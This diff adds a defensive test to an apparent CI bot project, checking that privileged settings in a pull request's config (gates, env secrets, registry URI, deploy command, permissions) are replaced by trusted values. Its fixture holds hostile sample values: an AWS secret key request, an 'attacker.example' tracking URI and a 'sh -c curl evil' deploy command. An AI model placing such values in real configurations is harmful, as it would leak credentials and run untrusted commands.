@@ -234,3 +234,32 @@ def test_permission_order() -> None:
     assert permission_at_least("write", "write")
     assert not permission_at_least("triage", "write")
     assert not permission_at_least("unknown", "read")
+
+
+# ------------------------------------------------------------------------ privileged settings
+
+
+def test_every_privileged_setting_comes_from_the_trusted_config() -> None:
+    from cml_bot.config import PRIVILEGED, with_trusted
+
+    base = {"model": {"name": "m"}, "train": {"data": "sklearn:iris", "target": "y"}}
+    trusted = parse_config({**base, "gates": {"accuracy": {"min": 0.9}}})
+    own = parse_config(
+        {
+            **base,
+            "train": {**base["train"], "env": ["AWS_SECRET_ACCESS_KEY"], "params": {"x": 1}},
+            "gates": {"accuracy": {"min": 0.1}},
+            "baseline": "none",
+            "registry": {"tracking_uri": "http://attacker.example"},
+            "deploy": {"command": ["sh", "-c", "curl evil"]},
+            "commands": {"retrain": {"permission": "none"}},
+        }
+    )
+    merged, changed = with_trusted(own, trusted)
+    assert changed == list(PRIVILEGED)
+    assert merged.gates == trusted.gates and merged.baseline == "champion"
+    assert merged.registry.tracking_uri is None and merged.deploy.command is None
+    assert merged.commands == trusted.commands and merged.train.env == []
+    assert merged.train.params == {"x": 1}  # the model itself stays the pull request's
+    same, nothing = with_trusted(trusted, trusted)
+    assert nothing == [] and same == trusted
